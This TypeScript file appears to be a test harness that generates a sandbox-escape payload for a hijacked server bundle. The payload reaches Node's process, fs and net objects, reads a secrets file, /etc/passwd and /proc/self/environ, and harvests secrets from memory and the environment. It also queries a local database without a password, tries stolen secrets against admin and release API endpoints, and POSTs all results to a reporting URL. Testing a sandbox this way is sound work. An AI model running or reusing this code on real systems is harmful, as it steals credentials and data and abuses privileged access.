/** What a hostile bundle knows of its surroundings. All of it could be guessed or searched. */
export interface EscapeTargets {
  /** Where it reports what it got. */
  reportTo: string;
  servicesUrl: string;
  databasePort: number;
  /** The file with all secrets of a site. */
  secretsFile: string;
  /** The browser's key, which is public. */
  key: { id: string; secret: string };
  /** A command of the database's protocol that lists accounts, as base64. */
  databaseCommand: string;
}

/** Ways to get classes and objects of Node that a bundle must not have. Each adds to `found`. */
const REACH = `
const found = { sockets: [], processes: [] };
const caught = [];
try {
  Object.defineProperty(Object.prototype, '_hadError', { configurable: true, set(value) {
    caught.push(this); Object.defineProperty(this, '_hadError', { value, writable: true });
  } });
} catch {}
await fetch(TARGETS.reportTo).then((answer) => answer.text()).catch(() => 0);
try { delete Object.prototype._hadError; } catch {}
if (caught[0]) found.sockets.push(caught[0].constructor);
try {
  let seen;
  Object.defineProperty(Object.prototype, 'noDeprecation', { configurable: true, get() { seen = this; return true; } });
  require('buffer').Buffer(5);
  delete Object.prototype.noDeprecation;
  if (seen && seen.versions) found.processes.push(seen);
} catch {}
for (const get of [() => process, () => globalThis.process, () => (function () {}).constructor('return process')(),
  () => require('process'), () => require('node:process')]) {
  try { const one = get(); if (one) found.processes.push(one); } catch {}
}
const modules = async (name) => {
  const ways = [() => require(name), () => require('node:' + name), () => import('node:' + name), () => (0, eval)("import('node:" + name + "')"),
    ...found.processes.flatMap((one) => [() => one.getBuiltinModule(name), () => one.binding(name), () => one.mainModule.require(name)])];
  for (const way of ways) { try { const one = await way(); if (one) return one; } catch {} }
};
const net = await modules('net');
if (net && net.Socket) found.sockets.push(net.Socket);
`;

/** Reads files: the secrets, and what the system tells about other processes. */
const FILES = `
const fs = await modules('fs');
const files = {};
for (const file of [TARGETS.secretsFile, '/etc/passwd', '/proc/self/environ']) {
  const ways = [
    () => fs.readFileSync(file, 'utf8'),
    () => fs.internalModuleReadJSON(file)[0],
    () => fetch('file://' + file).then((answer) => answer.text()),
    () => JSON.stringify(require(file)),
    () => import(file).then((module) => JSON.stringify(module)),
    () => import('data:text/javascript,export {default} from "file://' + file + '" with {type:"json"}').then((module) => JSON.stringify(module)),
  ];
  files[file] = [];
  for (const way of ways) { try { const text = await way(); if (text) files[file].push(String(text).slice(0, 400)); } catch {} }
}
`;

/** Searches everything that is reachable for texts that look like secrets. */
const SECRETS = `
const texts = new Set(); const seen = new Set();
const queue = [globalThis, console, process, exports, typeof module === 'undefined' ? undefined : module, ...['react', 'react-dom', 'react-router-dom', 'zustand', '@mockingbird/platform', 'util', 'buffer']
  .flatMap((name) => { try { return [require(name)]; } catch { return []; } })];
while (queue.length > 0 && seen.size < 200_000) {
  const value = queue.pop();
  if (typeof value === 'string') { if (value.length >= 16 && value.length < 500 && !/\\s{2}/.test(value)) texts.add(value); continue; }
  if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value)) continue;
  seen.add(value);
  // A thread that does not yield is ended.
  if (seen.size % 1_000 === 0) await new Promise((resolve) => setTimeout(resolve));
  try {
    if (value instanceof Map) queue.push(...value.keys(), ...value.values());
    if (value instanceof Set) queue.push(...value);
    if (value instanceof WeakRef) queue.push(value.deref());
    queue.push(Object.getPrototypeOf(value));
    for (const key of Reflect.ownKeys(value)) {
      const own = Object.getOwnPropertyDescriptor(value, key);
      if (own && 'value' in own) queue.push(own.value);
    }
  } catch {}
}
const environment = found.processes.flatMap((one) => { try { return Object.entries(one.env).map((pair) => pair.join('=')); } catch { return []; } });
`;

/** Speaks to the database without a password, over any socket that it got. */
const DATABASE = `
const database = [];
for (const Socket of found.sockets) {
  try {
    database.push(await new Promise((resolve) => {
      const socket = new Socket(); const parts = [];
      setTimeout(() => resolve('nothing in time'), 3_000);
      socket.on('error', (error) => resolve(String(error)));
      socket.on('data', (part) => { parts.push(part); resolve(Buffer.concat(parts).toString('latin1')); });
      socket.connect(TARGETS.databasePort, '127.0.0.1', () => socket.write(Buffer.from(TARGETS.databaseCommand, 'base64')));
    }));
  } catch {}
}
try {
  const answer = await fetch('http://127.0.0.1:' + TARGETS.databasePort + '/', { method: 'POST', body: Buffer.from(TARGETS.databaseCommand, 'base64') });
  database.push(await answer.text());
} catch {}
`;

/** Calls the API as edge, as release and as admin. */
const CALLS = `
const sign = async (id, secret, method, path) => {
  const now = String(Date.now());
  const encode = (text) => new TextEncoder().encode(text);
  const key = await crypto.subtle.importKey('raw', encode(secret), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']);
  const bytes = await crypto.subtle.sign('HMAC', key, encode([method, path, now].join('\\n')));
  return { 'x-api-key': id, 'x-timestamp': now, 'x-signature': Buffer.from(bytes).toString('hex') };
};
const calls = {};
const secretsToTry = [TARGETS.key.secret, ...Object.values(files).flat().flatMap((text) => text.split(/[^\\w-]+/)).filter((text) => text.length > 20), ...texts, ...environment.map((pair) => pair.split(/[:=]/).pop())].filter(Boolean).slice(0, 400);
const call = async (what, id, secret, method, path) => {
  try {
    const headers = await sign(id, secret, method, path);
    const answer = await fetch(TARGETS.servicesUrl + path, { method, headers: { ...headers, 'content-type': 'application/json' }, ...(method === 'POST' && { body: '{}' }) });
    calls[what] = Math.min(calls[what] ?? 999, answer.status);
  } catch (error) { calls[what] ??= String(error); }
};
await call('own key', TARGETS.key.id, TARGETS.key.secret, 'GET', '/api/exams/topexams');
for (const [method, path] of [['GET', '/api/releases/composition'], ['GET', '/api/releases/versions'], ['POST', '/api/releases/promote'],
  ['GET', '/api/releases/tokens'], ['GET', '/api/releases/admin/overview'], ['GET', '/api/upload/history'], ['POST', '/api/upload/visibility']])
  await call('browser ' + method + ' ' + path, TARGETS.key.id, TARGETS.key.secret, method, path);
for (const secret of secretsToTry)
  for (const [id, path] of [['edge', '/api/releases/composition'], ['release', '/api/releases/versions']]) await call(id, id, secret, 'GET', path);
`;

/**
 * Code in front of a server bundle: a minute's work of somebody who took over a team's package. It tries to leave its
 * thread, and reports what it got: files, secrets, rows of the database, and calls of others' rights.
 */
export const escapeCode = (targets: EscapeTargets): string => `
void (async () => {
  const TARGETS = ${JSON.stringify(targets)};
  const report = (body) => fetch(TARGETS.reportTo, { method: 'POST', body: JSON.stringify(body) });
  try {
    ${REACH} ${FILES} ${SECRETS} ${DATABASE} ${CALLS}
    await report({ sockets: found.sockets.map(({ name }) => name), processes: found.processes.filter((one) => one.getBuiltinModule || one.binding || one.kill).length,
      files, environment, texts: [...texts], database, calls, searched: seen.size });
  } catch (error) { await report({ failed: String(error && error.stack) }); }
})();
`;
